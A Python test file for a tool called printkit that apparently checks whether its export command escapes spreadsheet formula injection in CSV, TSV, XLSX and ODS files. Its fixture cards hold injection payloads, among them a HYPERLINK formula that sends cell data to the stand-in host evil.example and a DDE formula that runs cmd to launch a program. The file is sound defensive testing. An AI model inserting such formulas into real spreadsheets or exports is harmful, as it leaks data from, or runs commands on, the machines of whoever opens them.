"""`printkit export` and formula injection (CWE-1236): a pack's text that a spreadsheet program would
run as a formula (it starts with = + - @, a tab or a carriage return) is written to CSV and TSV after
a single quote, as OWASP recommends, and to XLSX as a text cell with Excel's quote prefix (ODS writes
every text as a string cell, which is never calculated). Read back into printkit, each format gives
the text exactly as the pack wrote it."""

import json
import shutil

import openpyxl
import pytest

from printkit.content.read import load_checked
from printkit.content.spreadsheet import _formula_unescaped, formula_escaped

PACK = """\
id: kit
title: Kit
fields:
  words: {type: list, items: text}
stats:
  attack: {name: Attack}
"""
TAB_CARD = '  - {id: tab, name: "\\tSUM(1)"}\n'
CARDS = """\
cards:
  - {id: link, name: '=HYPERLINK("http://evil.example/?"&A1,"Click")'}
  - {id: calc, name: "=cmd|' /C calc'!A0"}
  - {id: plus, name: +1+cmd}
  - {id: minus, name: -2+3, stats: {attack: -1}}
  - {id: at, name: "@SUM(1+1)"}
"""
CARDS += (
    TAB_CARD
    + """\
  - {id: quoted, name: "'=already quoted"}
  - {id: quotes, name: "''-twice"}
  - {id: apostrophe, name: "'tis fine"}
  - {id: list, name: List, data: {words: ["-a", b]}}
"""
)
CSV = """\
\ufeffid,name,data.words,stats.attack
link,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",,
calc,'=cmd|' /C calc'!A0,,
plus,'+1+cmd,,
minus,'-2+3,,-1
at,'@SUM(1+1),,
tab,'\tSUM(1),,
quoted,''=already quoted,,
quotes,'''-twice,,
apostrophe,'tis fine,,
list,List,'-a; b,
"""
TSV = """\
\ufeffid\tname\tdata.words\tstats.attack
link\t"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"\t\t
calc\t'=cmd|' /C calc'!A0\t\t
plus\t'+1+cmd\t\t
minus\t'-2+3\t\t-1
at\t'@SUM(1+1)\t\t
tab\t"'\tSUM(1)"\t\t
quoted\t''=already quoted\t\t
quotes\t'''-twice\t\t
apostrophe\t'tis fine\t\t
list\tList\t'-a; b\t
"""  # the csv module quotes a cell that holds the separator or a double quote


def _kit(tmp_path):
    root = tmp_path / "kit"
    root.mkdir()
    (root / "pack.yaml").write_text(PACK)
    (root / "cards.yaml").write_text(CARDS)
    return root


def _dumped(root) -> str:
    (pack,) = load_checked([root])
    return json.dumps([component.model_dump(mode="json") for component in pack.components])


def test_csv_cells_that_would_run_as_formulas_start_with_a_quote(run, tmp_path):
    target = tmp_path / "cards.csv"
    assert run("export", _kit(tmp_path), "--to", target) == (0, f"wrote {target}: cards (10 rows)\n", "")
    assert target.read_text(encoding="utf-8") == CSV


def test_tsv_cells_too(run, tmp_path):
    target = tmp_path / "cards.tsv"
    assert run("export", _kit(tmp_path), "--to", target) == (0, f"wrote {target}: cards (10 rows)\n", "")
    assert target.read_text(encoding="utf-8") == TSV


def test_xlsx_text_cells_that_would_run_as_formulas_have_excels_quote_prefix(run, tmp_path):
    target = tmp_path / "kit.xlsx"
    assert run("export", _kit(tmp_path), "--to", target)[0] == 0
    sheet = openpyxl.load_workbook(target)["cards"]
    names = {row[0].value: (row[1].value, row[1].data_type, row[1].quotePrefix) for row in sheet.iter_rows(min_row=2)}
    assert names["link"] == ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "s", True)
    assert names["quoted"] == ("'=already quoted", "s", True)
    assert names["apostrophe"] == ("'tis fine", "s", False)
    assert (sheet["C11"].value, sheet["C11"].quotePrefix) == ("-a; b", True)
    assert (sheet["D5"].value, sheet["D5"].quotePrefix) == (-1, False)  # a number is no formula


@pytest.mark.parametrize("fmt", ["csv", "tsv", "xlsx", "ods"])
def test_the_pack_read_from_its_export_has_the_text_as_written(run, tmp_path, fmt):
    root = _kit(tmp_path)
    if fmt == "ods":  # an ODS cell loses a leading tab on the way back, so export refuses to write it
        (root / "cards.yaml").write_text(CARDS.replace(TAB_CARD, ""))
    from_yaml = _dumped(root)
    target = tmp_path / f"cards.{fmt}"
    assert run("export", root, "--to", target)[0] == 0
    (root / "cards.yaml").unlink()
    shutil.move(target, root / target.name)
    assert _dumped(root) == from_yaml


@pytest.mark.parametrize(
    "text, cell",
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tA", "'\tA"),
        ("\rA", "'\rA"),
        ("'=1", "''=1"),
        ("'''@", "''''@"),
        ("'plain", "'plain"),
        ("plain = 1", "plain = 1"),
        ("", ""),
        ("'", "'"),
    ],
)
def test_the_quote_taken_off_is_the_one_export_added(text, cell):
    assert (formula_escaped(text), _formula_unescaped(cell)) == (cell, text)
